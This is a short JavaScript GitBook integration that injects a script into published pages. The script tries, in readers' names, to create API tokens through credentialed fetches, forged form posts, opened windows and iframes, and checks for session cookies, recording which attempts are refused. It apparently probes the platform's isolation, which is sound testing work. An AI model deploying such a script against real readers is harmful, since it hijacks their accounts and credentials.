import { createIntegration } from '@gitbook/runtime'

// Runs in the pages of readers and tries to act in their name; what came of it is written on the page.
const steal = async (home) => {
  const wait = (time) => new Promise((done) => setTimeout(done, time))
  const json = { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name":"stolen"}' }
  const attempts = {
    fetch: async () => (await fetch(`${home}/v1/user/tokens`, { ...json, credentials: 'include' })).status,
    form: async () => {
      const form = document.createElement('form')
      Object.assign(form, { method: 'post', action: `${home}/v1/user/tokens`, target: 'theirs' })
      document.body.append(form)
      form.submit()
      await wait(500)
      return 'sent'
    },
    window: async () => {
      const opened = open(`${home}/sites/unnamed/`)
      await wait(1500)
      return (await opened.fetch('/v1/user/tokens', json)).status
    },
    frame: async () => {
      const frame = document.createElement('iframe')
      frame.src = `${home}/sites/unnamed/`
      document.body.append(frame)
      await wait(1000)
      return (await frame.contentWindow.fetch('/v1/user/tokens', json)).status
    },
    path: async () => (await fetch('/v1/user/tokens', json)).status,
    cookie: async () => (document.cookie.includes('session') ? 'read' : 'none'),
  }
  const results = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      results[name] = await attempt()
    } catch {
      results[name] = 'refused'
    }
  }
  document.documentElement.dataset.stolen = JSON.stringify(results)
}

export default createIntegration({
  fetch_published_script: async () =>
    new Response(`(${steal.toString()})(new URL(document.currentScript.src).origin)`, {
      headers: { 'content-type': 'application/javascript' },
    }),
})
